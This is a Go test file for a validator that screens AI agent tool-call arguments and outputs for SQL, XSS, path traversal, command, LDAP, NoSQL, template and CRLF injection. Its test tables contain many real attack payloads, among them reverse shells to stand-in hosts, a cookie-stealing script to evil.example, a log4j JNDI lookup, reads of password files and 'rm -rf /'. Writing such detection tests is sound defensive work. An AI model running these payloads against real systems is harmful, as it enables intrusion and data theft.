@@ -1,0 +1,289 @@
+package validate
+
+import (
+	"testing"
+)
+
+const (
+	clean    = VerdictClean
+	flagged  = VerdictFlagged
+	rejected = VerdictRejected
+)
+
+func TestSQLi(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"tautology in a query field":             {"data.arguments.query", "' OR '1'='1", ThreatSQLi, rejected},
+		"comment truncation in a user name":      {"data.arguments.username", "admin'--", ThreatSQLi, flagged},
+		"union probe":                            {"data.arguments.id", "1' UNION SELECT NULL,NULL--", ThreatSQLi, flagged},
+		"time delay":                             {"data.arguments.id", "1 AND SLEEP(5)", ThreatSQLi, flagged},
+		"stacked statement":                      {"data.arguments.q", "1; DROP TABLE users", ThreatSQLi, rejected},
+		"url-encoded":                            {"data.arguments.item", "%27%20OR%20%271%27%3D%271", ThreatSQLi, flagged},
+		"mysql versioned comment":                {"data.arguments.id", "1/*!50000UNION*//*!50000SELECT*/1,2--", ThreatSQLi, flagged},
+		"statement with tautology in query":      {"data.arguments.query", "SELECT * FROM users WHERE id = 1 OR 1=1", ThreatSQLi, rejected},
+		"sub-select":                             {"data.arguments.user", "1' AND GTID_SUBSET(CONCAT(0x7170,(SELECT version())),1)--", ThreatSQLi, flagged},
+		"real SQL in a sql field":                {"data.arguments.sql", "SELECT id, email FROM users WHERE created_at > now() - interval '7 days' ORDER BY id LIMIT 50", "", clean},
+		"sql field with tautology is a tag only": {"data.arguments.sql", "SELECT * FROM users WHERE id = 1 OR 1=1", "", clean},
+		"real SQL in a query field":              {"data.arguments.query", "SELECT name FROM customers WHERE last_name = 'O''Brien'", "", clean},
+		"JQL in a query field":                   {"data.arguments.q", `project = ESC AND status = "In Progress" ORDER BY created DESC`, "", clean},
+		"O'Brien":                                {"data.arguments.name", "O'Brien", "", clean},
+		"apostrophes in a search":                {"data.arguments.search", "how to fix 'permission denied' on ubuntu", "", clean},
+		"arithmetic":                             {"data.arguments.math", "(1 + 2) * 3 = 9", "", clean},
+		"inequalities":                           {"data.arguments.math", "3 < 5 and 7 > 2", "", clean},
+		"expression in an unknown field":         {"data.arguments.rule", "status != 'closed' || priority == 1", "", clean},
+		"product called SELECT Comfort":          {"data.arguments.company", "SELECT Comfort", "", clean},
+		"sentence with a semicolon":              {"data.arguments.note", "pick one; select the best of them", "", clean},
+		"SQL discussed in Markdown code":         {"data.output", "Note that `' OR 1=1 --` returns every row.", "", clean},
+		"tautology in free text is flagged":      {"data.output", "try username ' OR '1'='1 to log in", ThreatSQLi, flagged},
+	})
+}
+
+func TestXSS(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"script tag":                       {"data.arguments.name", "<script>alert(1)</script>", ThreatXSS, flagged},
+		"event handler":                    {"data.arguments.bio", `<img src=x onerror=alert(1)>`, ThreatXSS, flagged},
+		"attribute breakout":               {"data.arguments.title_attr", `" onmouseover="alert(1)`, ThreatXSS, flagged},
+		"javascript URL in a url field":    {"data.arguments.url", "javascript:alert(document.cookie)", ThreatXSS, rejected},
+		"entity-encoded javascript URL":    {"data.arguments.link", "&#106;avascript:alert(1)", ThreatXSS, rejected},
+		"tab-split scheme":                 {"data.arguments.name", "<IMG SRC=\"jav\tascript:alert('XSS');\">", ThreatXSS, flagged},
+		"percent-encoded":                  {"data.arguments.q", "%3Cscript%3Ealert(1)%3C/script%3E", ThreatXSS, rejected},
+		"double-encoded":                   {"data.arguments.name", "%253Cscript%253Ealert(1)%253C/script%253E", ThreatXSS, flagged},
+		"nested script":                    {"data.arguments.bio", "<scr<script>ipt>alert(1)</scr</script>ipt>", ThreatXSS, flagged},
+		"javascript string breakout":       {"data.arguments.search_term", "';alert(1);//", ThreatXSS, rejected},
+		"script in model output":           {"data.output", "Done! <script>fetch('//evil.example/'+document.cookie)</script>", ThreatXSS, flagged},
+		"bold in Markdown output":          {"data.output", "Here is **bold** and <b>html</b> text.", "", clean},
+		"link with a query string":         {"data.output", `See <a href="https://example.com/docs?x=1&y=2">the docs</a>.`, "", clean},
+		"image":                            {"data.content", `<img src="chart.png" alt="Revenue by month">`, "", clean},
+		"stylesheet and meta":              {"data.output", "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/s.css\"><style>body{color:#333}</style></head><body><p>Hi</p></body></html>", "", clean},
+		"youtube iframe":                   {"data.output", `<iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>`, "", clean},
+		"script tag in a code fence":       {"data.output", "The file:\n\n```html\n<button onclick=\"save()\">Save</button>\n<script src=\"app.js\"></script>\n```", "", clean},
+		"script tag in inline code":        {"data.output", "Never render `<script>alert(1)</script>` as raw HTML.", "", clean},
+		"script tag mentioned in prose":    {"data.gen_ai.completion", "The <script> element embeds JavaScript, usually in the <head>.", "", clean},
+		"less-than heart":                  {"data.content", "<3 thanks so much!!", "", clean},
+		"URL with a query string":          {"data.arguments.url", "https://example.com/search?q=golang&page=2", "", clean},
+		"html written to a file is source": {"data.arguments.html", `<div onclick="toggle()">Menu</div><script>init();</script>`, "", clean},
+		"data: image URL":                  {"data.arguments.url", "data:image/png;base64,iVBORw0KGgo=", "", clean},
+	})
+}
+
+func TestPathTraversal(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"dotdot to passwd":              {"data.arguments.path", "../../etc/passwd", ThreatPathTraversal, rejected},
+		"encoded slash":                 {"data.arguments.file", "..%2f..%2f..%2fetc%2fpasswd", ThreatPathTraversal, rejected},
+		"double-encoded dot":            {"data.arguments.path", "%252e%252e%252fetc%252fpasswd", ThreatPathTraversal, rejected},
+		"overlong UTF-8":                {"data.arguments.path", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", ThreatPathTraversal, rejected},
+		"overlong slash":                {"data.arguments.path", "..%c0%af..%c0%afetc%c0%afpasswd", ThreatPathTraversal, rejected},
+		"IIS unicode slash":             {"data.arguments.path", "..%u2215..%u2215etc%u2215passwd", ThreatPathTraversal, rejected},
+		"backslashes":                   {"data.arguments.path", `..\..\..\windows\win.ini`, ThreatPathTraversal, rejected},
+		"filter bypass":                 {"data.arguments.path", "....//....//etc/passwd", ThreatPathTraversal, rejected},
+		"tomcat path parameter":         {"data.arguments.url", "https://app.example.com/..;/..;/WEB-INF/web.xml", ThreatPathTraversal, rejected},
+		"NUL byte":                      {"data.arguments.filename", "shell.php%00.png", ThreatPathTraversal, rejected},
+		"absolute escape":               {"data.arguments.path", "/var/www/html/../../../etc/shadow", ThreatPathTraversal, rejected},
+		"sensitive file":                {"data.arguments.path", "/etc/passwd", ThreatPathTraversal, rejected},
+		"query parameter traversal":     {"data.arguments.url", "http://target/index.php?page=../../../../etc/passwd", ThreatPathTraversal, rejected},
+		"traversal in an unknown field": {"data.arguments.page", "../../../etc/passwd", ThreatPathTraversal, flagged},
+		"file URL in an unknown field":  {"data.arguments.resource", "file:///etc/passwd", ThreatPathTraversal, flagged},
+		"dotdot in a file name":         {"data.arguments.filename", "../secret.txt", ThreatPathTraversal, rejected},
+		"Windows path":                  {"data.arguments.path", `C:\Users\me\file.txt`, "", clean},
+		"Program Files":                 {"data.arguments.path", `C:\Program Files (x86)\App\config.ini`, "", clean},
+		"one level up":                  {"data.arguments.path", "../README.md", "", clean},
+		"up and down again":             {"data.arguments.path", "src/../docs/index.md", "", clean},
+		"date range in a file name":     {"data.arguments.path", "/srv/exports/data_2024-01-01..2024-01-31.csv", "", clean},
+		"nginx config":                  {"data.arguments.path", "/etc/nginx/nginx.conf", "", clean},
+		"public key":                    {"data.arguments.path", "/home/me/.ssh/id_rsa.pub", "", clean},
+		"UNC share":                     {"data.arguments.path", `\\fileserver\share\q3.xlsx`, "", clean},
+		"ellipsis":                      {"data.content", "...", "", clean},
+		"git range":                     {"data.arguments.ref", "HEAD~3..HEAD", "", clean},
+		"relative link in prose":        {"data.arguments.notes", "See ../../docs/architecture.md for details.", "", clean},
+	})
+}
+
+func TestPathTraversalAllowedRoots(t *testing.T) {
+	t.Parallel()
+	v := newValidator(t, "standard", func(c *Config) { c.AllowedRoots = []string{"/srv/app", `C:\work`} })
+	cases := map[string]struct {
+		value string
+		want  Verdict
+	}{
+		"inside":            {"/srv/app/src/main.go", clean},
+		"the root itself":   {"/srv/app", clean},
+		"outside":           {"/home/me/.bashrc", rejected},
+		"prefix is not in":  {"/srv/application/x", rejected},
+		"cleaned escape":    {"/srv/app/../other/x", rejected},
+		"relative inside":   {"src/main.go", clean},
+		"relative climbing": {"../x", rejected},
+		"windows inside":    {`C:\work\notes.txt`, clean},
+		"windows outside":   {`D:\notes.txt`, rejected},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r := v.CheckField("data.arguments.path", tc.value)
+			if r.Verdict != tc.want {
+				t.Errorf("%q: %s, want %s (%+v)", tc.value, r.Verdict, tc.want, r.Threats)
+			}
+		})
+	}
+}
+
+func TestCmdInjection(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"chained in a host":                {"data.arguments.host", "127.0.0.1; cat /etc/passwd", ThreatCmdInjection, rejected},
+		"and-and":                          {"data.arguments.domain", "example.com && whoami", ThreatCmdInjection, rejected},
+		"substitution":                     {"data.arguments.filename", "report$(whoami).pdf", ThreatCmdInjection, rejected},
+		"backticks":                        {"data.arguments.name", "x`id`", ThreatCmdInjection, flagged},
+		"pipe to a command":                {"data.arguments.name", "a | nc evil.example 4444 -e /bin/sh", ThreatCmdInjection, flagged},
+		"newline":                          {"data.arguments.ip", "10.0.0.1\nwhoami", ThreatCmdInjection, rejected},
+		"encoded newline":                  {"data.arguments.target", "127.0.0.1%0acat%20/etc/passwd", ThreatCmdInjection, flagged},
+		"IFS":                              {"data.arguments.name", "a;cat${IFS}/etc/passwd", ThreatCmdInjection, flagged},
+		"quote obfuscation":                {"data.arguments.name", ";w'h'o'am'i", ThreatCmdInjection, flagged},
+		"glob command":                     {"data.arguments.name", ";/???/??t /???/p??s??", ThreatCmdInjection, flagged},
+		"windows":                          {"data.arguments.name", "& net user", ThreatCmdInjection, flagged},
+		"option injection in a host":       {"data.arguments.host", "-oProxyCommand=id", ThreatCmdInjection, rejected},
+		"reverse shell in an unknown":      {"data.arguments.name", "x; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", ThreatCmdInjection, flagged},
+		"pipeline in a command field":      {"data.arguments.command", "ps aux | grep nginx", "", clean},
+		"chain in a command field":         {"data.arguments.command", "git pull && go test ./... 2>&1 | tail -20", "", clean},
+		"reverse shell in a command field": {"data.arguments.command", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "", clean},
+		"semicolon in prose":               {"data.arguments.note", "Call back after 5pm; ask for Dana.", "", clean},
+		"id is a word":                     {"data.arguments.note", "required fields; id is required", "", clean},
+		"query string":                     {"data.arguments.url", "https://example.com/list?a=1&id=5&cat=books", "", clean},
+		"matrix parameter":                 {"data.arguments.url", "https://example.com/app;jsessionid=ABC123?x=1", "", clean},
+		"data URL":                         {"data.arguments.url", "data:image/png;base64,iVBORw0KGgo=", "", clean},
+		"ampersand in a file name":         {"data.arguments.filename", "Q&A.pdf", "", clean},
+		"cookie header":                    {"data.arguments.headers.Cookie", "session=abc; theme=dark", "", clean},
+		"markdown code span":               {"data.arguments.description", "run `ls -la` to see them", "", clean},
+		"shell variable in a path":         {"data.arguments.path", "$HOME/.local/bin", "", clean},
+	})
+}
+
+func TestLDAPInjection(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"classic breakout":          {"data.arguments.filter", "*)(uid=*))(|(uid=*", ThreatLDAPInjection, rejected},
+		"always true":               {"data.arguments.username", "admin)(&)", ThreatLDAPInjection, flagged},
+		"or injection":              {"data.arguments.user", "*)(|(objectclass=*)", ThreatLDAPInjection, flagged},
+		"NUL escape in a filter":    {"data.arguments.ldap_filter", `(uid=admin\00)`, ThreatLDAPInjection, rejected},
+		"encoded":                   {"data.arguments.login", "%2a%29%28%7c%28uid%3d%2a", ThreatLDAPInjection, flagged},
+		"unbalanced in a filter":    {"data.arguments.filter", "admin)(cn=*", ThreatLDAPInjection, rejected},
+		"truncation":                {"data.arguments.group", "admin)%00", ThreatLDAPInjection, flagged},
+		"complete filter":           {"data.arguments.filter", "(&(objectClass=user)(cn=John*))", "", clean},
+		"escaped comma":             {"data.arguments.ldap_filter", `(cn=Smith\2c John)`, "", clean},
+		"matching rule":             {"data.arguments.filter", "(!(userAccountControl:1.2.840.113556.1.4.803:=2))", "", clean},
+		"other filter syntax":       {"data.arguments.filter", "name eq 'O''Brien' and (age gt 30)", "", clean},
+		"function call in unknown":  {"data.arguments.expr", "f(a)(b=1)", "", clean},
+		"parentheses in prose":      {"data.arguments.note", "pick one (a) or (b)", "", clean},
+		"distinguished name member": {"data.arguments.member", "uid=jdoe,ou=people,dc=example,dc=com", "", clean},
+	})
+}
+
+func TestNoSQLi(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"operator object as text":  {"data.arguments.password", `{"$ne": null}`, ThreatNoSQLi, flagged},
+		"query-string operator":    {"data.arguments.login", "username[$ne]=toto&password[$ne]=toto", ThreatNoSQLi, flagged},
+		"where injection":          {"data.arguments.user", "', $where: '1 == 1'", ThreatNoSQLi, flagged},
+		"javascript equality":      {"data.arguments.user", "' || 'a'=='a", ThreatNoSQLi, flagged},
+		"this.password":            {"data.arguments.user", "' && this.password.match(/.*/)//", ThreatNoSQLi, flagged},
+		"sleep":                    {"data.arguments.id", "';sleep(5000);", ThreatNoSQLi, flagged},
+		"price":                    {"data.arguments.price", "$5", "", clean},
+		"prices in text":           {"data.arguments.note", "costs $10, or $5 on sale", "", clean},
+		"operator named in prose":  {"data.arguments.note", "use the $gt operator for ranges", "", clean},
+		"query document in query":  {"data.arguments.query", `{"age": {"$gt": 30}}`, "", clean},
+		"mongo shell in query":     {"data.tool_input.query", "db.users.find({age: {$gt: 30}})", "", clean},
+		"shell variable in a path": {"data.arguments.path", "${HOME}/bin", "", clean},
+	})
+}
+
+func TestNoSQLiOperatorKeys(t *testing.T) {
+	t.Parallel()
+	v := newValidator(t, "standard")
+	cases := map[string]struct {
+		data    string
+		verdict Verdict
+		info    bool
+	}{
+		"operator for a password":       {`{"arguments":{"username":"admin","password":{"$ne":null}}}`, flagged, false},
+		"operator for a path":           {`{"arguments":{"path":{"$gt":""}}}`, rejected, false},
+		"filter document":               {`{"arguments":{"collection":"users","filter":{"age":{"$gte":18},"tags":{"$in":["a"]}}}}`, clean, true},
+		"aggregation pipeline":          {`{"arguments":{"pipeline":[{"$match":{"s":"A"}},{"$group":{"_id":"$c","t":{"$sum":"$a"}}}]}}`, clean, true},
+		"find document":                 {`{"arguments":{"collection":"users","find":{"age":{"$gt":30}}}}`, clean, true},
+		"dollar key that is not an op":  {`{"arguments":{"prices":{"$5":"cheap"}}}`, clean, false},
+		"query document as embedded js": {`{"gen_ai.tool.call.arguments":"{\"query\":{\"$and\":[{\"a\":1}]}}"}`, clean, true},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r := v.CheckEvent(envelope(t, tc.data))
+			if r.Verdict != tc.verdict {
+				t.Errorf("verdict %s, want %s: %+v", r.Verdict, tc.verdict, r.Threats)
+			}
+			if hasInfo(r, ThreatNoSQLi) != tc.info {
+				t.Errorf("informational nosqli tag = %v, want %v: %+v", !tc.info, tc.info, r.Threats)
+			}
+		})
+	}
+}
+
+func TestTemplateInjection(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"arithmetic probe":         {"data.arguments.name", "{{7*7}}", ThreatTemplateInjection, flagged},
+		"string multiplication":    {"data.arguments.name", "{{7*'7'}}", ThreatTemplateInjection, flagged},
+		"dollar brace":             {"data.arguments.name", "${7*7}", ThreatTemplateInjection, flagged},
+		"ERB":                      {"data.arguments.name", "<%= 7*7 %>", ThreatTemplateInjection, flagged},
+		"object walk":              {"data.arguments.name", "{{''.__class__.__mro__[1].__subclasses__()}}", ThreatTemplateInjection, flagged},
+		"config global":            {"data.arguments.name", "{{config.items()}}", ThreatTemplateInjection, flagged},
+		"spring expression":        {"data.arguments.name", "${T(java.lang.Runtime).getRuntime().exec('id')}", ThreatTemplateInjection, flagged},
+		"log4j lookup in header":   {"data.arguments.user_agent", "${jndi:ldap://evil.example/a}", ThreatTemplateInjection, rejected},
+		"obfuscated lookup":        {"data.arguments.name", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", ThreatTemplateInjection, flagged},
+		"angular sandbox escape":   {"data.arguments.name", "{{constructor.constructor('alert(1)')()}}", ThreatTemplateInjection, flagged},
+		"freemarker":               {"data.arguments.name", `<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }`, ThreatTemplateInjection, flagged},
+		"in a prompt":              {"data.prompt", "Hello {{7*7}}", ThreatTemplateInjection, flagged},
+		"format placeholder":       {"data.arguments.greeting", "Hello {name}", "", clean},
+		"mustache variable":        {"data.arguments.greeting", "Dear {{ customer.first_name }},", "", clean},
+		"jinja loop":               {"data.arguments.template", "{% for p in products %}{{ p.title }}{% endfor %}", "", clean},
+		"shell variable":           {"data.arguments.value", "${HOME}/bin", "", clean},
+		"ruby interpolation":       {"data.arguments.value", "#{user.name}", "", clean},
+		"wiki link":                {"data.arguments.value", "[[Main Page]]", "", clean},
+		"arithmetic in prose":      {"data.output", "The answer is 7*7 = 49.", "", clean},
+		"template in a code fence": {"data.output", "```jinja\n{{ config.SECRET_KEY }}\n```", "", clean},
+	})
+}
+
+func TestCRLF(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"raw in a header":          {"data.arguments.headers.X-Custom", "a\r\nSet-Cookie: x=1", ThreatCRLF, rejected},
+		"encoded in a header":      {"data.arguments.user_agent", "Mozilla%0d%0aX-Evil:%201", ThreatCRLF, rejected},
+		"double-encoded in a url":  {"data.arguments.url", "https://example.com/%250d%250aSet-Cookie:a=1", ThreatCRLF, rejected},
+		"unicode CRLF":             {"data.arguments.next", "%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", ThreatCRLF, flagged},
+		"encoded in an unknown":    {"data.arguments.return_to", "/home%0d%0aLocation:%20https://evil.example", ThreatCRLF, flagged},
+		"literal escapes":          {"data.arguments.next", "%5cr%5cnSet-Cookie:crlf=injection", ThreatCRLF, flagged},
+		"raw header in an unknown": {"data.arguments.lang", "en\r\nX-Forwarded-For: 127.0.0.1", ThreatCRLF, flagged},
+		"mail header injection":    {"data.arguments.reply", "bob\r\nBcc: victim@example.com", ThreatCRLF, flagged},
+		"multi-line text":          {"data.arguments.body", "Hi team,\r\nNote: the deploy is done.\r\n", "", clean},
+		"multi-line unknown":       {"data.arguments.draft", "Line one\nTo be continued: line two", "", clean},
+		"encoded space":            {"data.arguments.url", "https://example.com/a%20b?q=c%20d", "", clean},
+		"header with parameters":   {"data.arguments.headers.Content-Type", "multipart/form-data; boundary=----x", "", clean},
+	})
+}
+
+func TestIdentifiers(t *testing.T) {
+	t.Parallel()
+	runDetectTable(t, map[string]detectCase{
+		"tenant":               {"tenant", "acme", "", clean},
+		"tenant upper case":    {"tenant", "ACME", "", rejected},
+		"tenant with a dot":    {"tenant", "acme.prod", "", rejected},
+		"agent with wildcard":  {"agentid", "agent-*", "", rejected},
+		"session":              {"sessionid", "sess_01", "", clean},
+		"tool name":            {"data.gen_ai.tool.name", "mcp__filesystem__read_file", "", clean},
+		"tool name with space": {"data.gen_ai.tool.name", "read file", "", rejected},
+		"tool name injection":  {"data.tool_calls[0].function.name", "get_weather; rm -rf /", "", rejected},
+		"function name":        {"data.tool_calls[0].function.name", "get_weather", "", clean},
+		"namespaced tool name": {"data.arguments.tool", "github.create_issue", "", clean},
+		"tool name permissive": {"data.tool_name", "<script>", "", rejected},
+	})
+}
